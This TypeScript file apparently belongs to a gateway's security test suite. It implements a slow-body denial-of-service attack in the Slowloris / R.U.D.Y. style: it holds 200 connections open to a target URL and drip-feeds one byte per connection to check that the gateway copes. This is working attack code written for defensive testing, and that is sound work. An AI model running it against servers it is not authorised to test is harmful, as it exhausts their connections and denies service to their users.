import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { httpBytes, JSON_TYPE } from '../../attacks/http-request.js';

const CONNECTIONS = 200;
const LASTS_MS = 3_000;
const EVERY_MS = 100;

/**
 * Bodies that come a byte at a time, on many connections (Slowloris, R.U.D.Y.). That they are cut off in the end is
 * tested with short times in gateway/src/traffic/http-hardening.test.ts; this is what others notice before that.
 */
export async function slowBodies(url: string): Promise<void> {
  const { hostname, port, host } = new URL(url);
  const start = httpBytes({ headers: [JSON_TYPE, 'Content-Length: 4000'], body: '{' })(host);
  const sockets: Socket[] = Array.from({ length: CONNECTIONS }, () => {
    const socket = connect(Number(port), hostname, () => socket.write(start));
    return socket.on('error', () => {});
  });
  for (let sent = 0; sent < LASTS_MS; sent += EVERY_MS) {
    await pause(EVERY_MS);
    for (const socket of sockets) if (socket.writable) socket.write(' ');
  }
  for (const socket of sockets) socket.destroy();
}
